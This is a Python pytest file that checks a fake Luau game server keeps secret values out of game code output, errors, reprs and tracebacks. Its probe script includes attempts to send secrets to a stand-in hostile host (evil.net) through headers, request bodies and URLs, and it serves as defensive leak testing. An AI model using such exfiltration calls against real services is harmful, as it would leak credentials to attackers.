"""A secret's value never reaches game code, its output, its errors, or a repr or traceback.

The value lives only in the Python ``Secret``; Luau holds an opaque handle. Game code here
tries every way it has to turn a handle into text, and everything it could produce, print or
raise is searched for the value.
"""

from __future__ import annotations

import traceback

import pytest

from fakeserver.luau import Limits, LuauError, LuauGame
from fakeserver.pytest_plugin import FakeOpenCloudHandle, LuauGameFactory

VALUE = "S3CRET-v4lue-9f8e7d"
URL_VALUE = "https://hooks.example.com/T0KEN-a1b2c3"

PROBE = """
local Http = game:GetService("HttpService")
local seen = {}
local function keep(...)
    for i = 1, select("#", ...) do
        table.insert(seen, tostring((select(i, ...))))
    end
end
local function try(f, ...) keep(pcall(f, ...)) end
local s = Http:GetSecret("TOKEN")
local url = Http:GetSecret("HOOK")
local p = s:AddPrefix("Bearer "):AddSuffix("!")
for _, x in { s, url, p } do
    keep(x, typeof(x), type(x), getmetatable(x))
    print(x) warn(x)
    try(function() return x .. "" end)
    try(function() return "" .. x end)
    try(function() return x == x, x < x end)
    try(function() return #x end)
    try(function() return x.Value, x.value, x._value, x[1] end)
    try(function() x.Value = 1 end)
    try(function() for k, v in pairs(x :: any) do keep(k, v) end end)
    try(function() for k, v in x :: any do keep(k, v) end end)
    try(function() return rawget(x :: any, "Value") end)
    try(function() return setmetatable(x :: any, {}) end)
    try(function() return string.format("%s %q", x, x) end)
    try(function() return string.len(x :: any), string.byte(x :: any, 1, -1) end)
    try(function() return Http:JSONEncode({ x }) end)
    try(function() return Http:UrlEncode(x :: any) end)
    try(function() return Http:JSONDecode(x :: any) end)
    try(function() return buffer.fromstring(x :: any) end)
    try(function() return tonumber(x :: any), utf8.len(x :: any) end)
    try(function() return debug.info(x :: any, "s") end)
    try(function() return x:AddPrefix(x) end)
    try(function() return (x :: any)() end)
    -- Sent where it may not go: the errors name the secret, never its value.
    try(function() return Http:GetAsync("https://evil.net/", false, { K = x }) end)
    try(function() return Http:RequestAsync({ Url = x, Body = "b" }) end)
    try(function() return Http:PostAsync("https://hooks.example.com/", x :: any) end)
    try(function() return Http:RequestAsync({ Url = "https://hooks.example.com/", Body = x }) end)
    try(function() return Http:RequestAsync({ Url = x:AddPrefix("https://evil.net/?") }) end)
    try(function() return Http:RequestAsync({ Url = x:AddSuffix(":22/"), Method = "GET" }) end)
end
return seen
"""


@pytest.fixture
def game(fake_open_cloud: FakeOpenCloudHandle, luau_game_factory: LuauGameFactory) -> LuauGame:
    uid = fake_open_cloud.universe_id
    fake_open_cloud.fake.put_secret(uid, "TOKEN", VALUE, domain="*.example.com")
    fake_open_cloud.fake.put_secret(uid, "HOOK", URL_VALUE, domain="hooks.example.com")
    started: LuauGame = luau_game_factory(limits=Limits(seconds=2.0))
    started.respond_with(200, body="fine")
    return started


def _leaks(text: str) -> bool:
    return any(part in text for part in (VALUE, URL_VALUE, "T0KEN", "v4lue"))


def test_nothing_game_code_can_produce_holds_the_value(game: LuauGame) -> None:
    seen = game.run(PROBE)
    assert isinstance(seen, list) and len(seen) > 100
    assert not [text for text in seen if _leaks(str(text))]
    assert not [line for line in game.output if _leaks(line)]
    assert "Secret(TOKEN)" in game.output and "[warn] Bearer Secret(TOKEN)!" in game.output


def test_refusals_name_the_secret_and_not_its_value(game: LuauGame) -> None:
    seen = game.run(PROBE)
    assert isinstance(seen, list)
    joined = "\n".join(str(x) for x in seen)
    assert "secret TOKEN may be sent only to '*.example.com', not to evil.net" in joined
    assert "secret TOKEN is in the request body" in joined
    assert "(not shown: it comes from secret HOOK)" in joined
    assert "evil.net/?" not in joined  # a secret URL's host is part of the value


def test_uncaught_errors_and_their_tracebacks_hold_no_value(game: LuauGame) -> None:
    for source in (
        'local s = game:GetService("HttpService"):GetSecret("TOKEN")\nerror(s)',
        'local s = game:GetService("HttpService"):GetSecret("HOOK")\nlocal x = s .. "x"',
        'local H = game:GetService("HttpService")\n'
        'H:RequestAsync({ Url = H:GetSecret("HOOK"):AddPrefix("https://evil.net/?") })',
        'local H = game:GetService("HttpService")\nH:PostAsync("https://a.example.com", '
        'H:GetSecret("TOKEN"))',
    ):
        with pytest.raises(LuauError) as caught:
            game.run(source)
        rendered = "".join(
            traceback.TracebackException.from_exception(caught.value, capture_locals=True).format()
        )
        assert not _leaks(rendered), rendered
        assert not _leaks(repr(caught.value))


def test_reprs_hold_no_value(game: LuauGame) -> None:
    game.run(
        'local H = game:GetService("HttpService")\n'
        'H:GetAsync("https://a.example.com/", false, { A = H:GetSecret("TOKEN") })\n'
        'H:GetAsync(H:GetSecret("HOOK"))'
    )
    shown = [repr(game), repr(game.requests), repr(game.server), str(game.requests)]
    assert not [text for text in shown if _leaks(text)]
    # The requests themselves carry the values, for the test to assert on.
    assert game.requests[0].headers == {"A": VALUE} and game.requests[1].url == URL_VALUE


def test_results_returned_to_python_are_opaque_secrets(game: LuauGame) -> None:
    secret = game.run('return game:GetService("HttpService"):GetSecret("TOKEN"):AddPrefix("x")')
    assert repr(secret) == "Secret(TOKEN)" and not _leaks(str(secret))
